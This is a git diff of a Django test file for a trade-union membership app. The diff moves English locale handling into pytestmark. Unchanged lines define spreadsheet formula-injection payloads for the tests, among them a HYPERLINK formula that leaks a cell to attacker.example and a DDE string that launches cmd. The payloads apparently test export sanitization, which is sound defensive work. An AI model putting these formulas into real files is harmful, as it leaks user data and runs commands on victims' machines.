@@ -12,7 +12,6 @@ import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
-from django.utils import translation
 
 from congdoan.accounts.models import User
 from congdoan.accounts.roles import UnionRole
@@ -24,16 +23,10 @@ from congdoan.members.models import MemberImport
 from congdoan.registry_fixtures import admit, found
 from congdoan.unions.levels import Level
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("in_english")]
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Bấm vào đây")'
 DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
-
-
-@pytest.fixture(autouse=True)
-def english():
-    with translation.override("en"):
-        yield
 
 
 def cells(content):
